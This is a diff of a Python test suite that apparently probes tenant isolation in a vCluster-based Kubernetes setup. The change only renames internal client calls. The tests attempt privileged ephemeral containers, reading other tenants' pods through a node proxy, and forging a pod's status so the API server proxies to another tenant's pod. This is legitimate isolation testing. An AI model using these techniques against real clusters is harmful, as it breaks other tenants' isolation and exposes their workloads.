@@ -259,7 +259,7 @@ def privileged_ephemeral_container(attacker: Attacker) -> Outcome:
         assert time.monotonic() < deadline, pod["status"]
         time.sleep(0.5)
     debugger = {"name": "debug", "image": IMAGE, "command": ["ls", "/dev/nvidia0"], "securityContext": PRIVILEGED}
-    containers = attacker.kube._require("v1", "Pod").subresources["ephemeralcontainers"]
+    containers = attacker.kube.client.require("v1", "Pod").subresources["ephemeralcontainers"]
     body = {"spec": {"ephemeralContainers": [debugger]}}
     try:
         containers.patch(body=body, name="debugged", namespace="default", content_type="application/strategic-merge-patch+json")
@@ -343,7 +343,7 @@ def pods_of_others_by_the_proxy_of_its_node(attacker: Attacker) -> Outcome:
     own = {item["metadata"]["uid"] for item in attacker.kube.list("v1", "Pod")}
     own |= {item["metadata"]["uid"] for item in attacker.host.list("v1", "Pod", attacker.namespace)}
     try:
-        answer = attacker.kube._get("read a node's pods", f"/api/v1/nodes/{node['metadata']['name']}/proxy/pods")
+        answer = attacker.kube.client.request("read a node's pods", f"/api/v1/nodes/{node['metadata']['name']}/proxy/pods")
     except TenancyError as exc:
         return False, exc.message
     shown = json.loads(answer)["items"] or []
@@ -395,11 +395,11 @@ def by_its_api_server(attacker: Attacker, port: int) -> Outcome:
     name, address = f"forged-{port}", attacker.other.on_host("Pod", "page")["status"]["podIP"]
     # What no scheduler places, vCluster does not pass on, so that nothing puts its status right.
     attacker.create_many("Pod", [name], spec=HARMLESS | {"schedulerName": "nobody"})
-    status = attacker.kube._require("v1", "Pod").subresources["status"]
+    status = attacker.kube.client.require("v1", "Pod").subresources["status"]
     body = {"status": {"phase": "Running", "podIP": address, "podIPs": [{"ip": address}]}}
     status.patch(body=body, name=name, namespace="default", content_type="application/merge-patch+json")
     try:
-        return True, attacker.kube._get(
+        return True, attacker.kube.client.request(
             "read a page by the API server", f"/api/v1/namespaces/default/pods/{name}:{port}/proxy/hostname"
         )
     except TenancyError as exc:
